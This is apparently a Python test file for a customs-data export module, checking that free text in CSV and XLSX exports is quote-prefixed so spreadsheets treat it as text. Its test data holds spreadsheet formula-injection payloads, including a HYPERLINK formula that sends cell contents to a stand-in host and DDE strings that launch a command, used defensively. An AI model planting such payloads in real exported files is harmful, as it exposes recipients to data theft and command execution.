"""Spreadsheet-safe exports (issue 12): free text from other organisations opens as text."""

from __future__ import annotations

import asyncio
import csv
import io

from openpyxl import load_workbook

from opseal.client import export
from opseal.client.report_render import render_csv

from .test_export_release import OP, record, submit, sync_all

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def hostile_record() -> dict:
    """A record whose free-text fields start with each character a spreadsheet evaluates."""
    rec = record(
        "FR-X",
        remarks=PAYLOADS["="],
        concealment=PAYLOADS["+"],
        offence=PAYLOADS["-"],
        platform=PAYLOADS["@"],
        case_ref=PAYLOADS["\t"],
        reporting_office=PAYLOADS["\r"],
    )
    rec["goods"][0]["description"] = "=1+1"
    rec["goods"][1]["brand"] = "@brand"
    return rec


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(cells: list) -> None:
    """No text cell starts with a character a spreadsheet evaluates (numbers may be negative)."""
    for cell in cells:
        if isinstance(cell, str) and not is_number(cell):
            assert not cell.startswith(DANGEROUS), repr(cell)


async def test_an_export_of_hostile_free_text_opens_as_text_in_csv_and_xlsx(onboarded):
    """Every text cell starting with =, +, -, @, tab or CR is prefixed with a quote, in the CSV
    (read with the csv module) and the XLSX (read with openpyxl: no formula cell), and the
    numbers stay numbers."""
    fr, de = onboarded.clients["fr-customs"], onboarded.clients["de-customs"]
    await submit(fr, hostile_record(), "H0")
    await sync_all(onboarded)
    rows = export.collect(de.read(OP), de.org_id, await de.charter(OP))
    assert [r.record["record_id"] for r in rows] == ["FR-X"]

    table = list(csv.reader(io.StringIO(export.to_csv(rows), newline="")))
    header, lines = table[0], [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    for line in table:
        assert_inert(line)
    assert lines[0]["remarks"] == "'" + PAYLOADS["="]
    assert lines[0]["reporting_office"] == "'" + PAYLOADS["\r"]
    assert lines[0]["description"] == "'=1+1"
    assert lines[1]["brand"] == "'@brand"
    assert lines[0]["quantity_items"] == "1000"

    book = load_workbook(io.BytesIO(await asyncio.to_thread(export.to_xlsx, rows)))
    sheet = book["records"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == header
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    for row in values:
        assert_inert(row)
    xlsx = [dict(zip(header, row, strict=True)) for row in values[1:]]
    for field, first in (("remarks", "="), ("concealment", "+"), ("offence", "-"),
                         ("platform", "@"), ("case_ref", "\t")):  # fmt: skip
        assert xlsx[0][field] == "'" + PAYLOADS[first]
        assert lines[0][field] == "'" + PAYLOADS[first]
    assert xlsx[0]["quantity_items"] == 1000
    assert xlsx[0]["weight_kg"] == 2.5


def test_safe_text_and_negative_numbers_are_left_as_they_are():
    """Only text is quoted: a negative number stays a number and harmless text is unchanged."""
    assert export.neutralise("fake watches") == "fake watches"
    assert export.neutralise("-5") == "'-5"
    assert export._value(-5) == -5
    assert export._value(-2.5) == -2.5
    assert export.neutralise("") == ""


def test_the_report_csv_neutralises_its_text_keys():
    """A report whose breakdown keys come from hostile records has no cell a spreadsheet runs."""
    report = {
        "totals": {"seizures": 1, "weight_kg": -0.5},
        "by_category": {"=HYPERLINK(1)": {"seizures": 1}},
        "by_country": {"+FR": {"seizures": 1}},
        "by_transport_mode": {"@road": {"seizures": 1}},
        "by_day": {"\t2025-05-13\r": {"seizures": 1}},
    }
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    for row in rows:
        assert_inert(row)
    assert ["by_category", "'=HYPERLINK(1)", "seizures", "1"] in rows
    assert ["totals", "", "weight_kg", "-0.5"] in rows
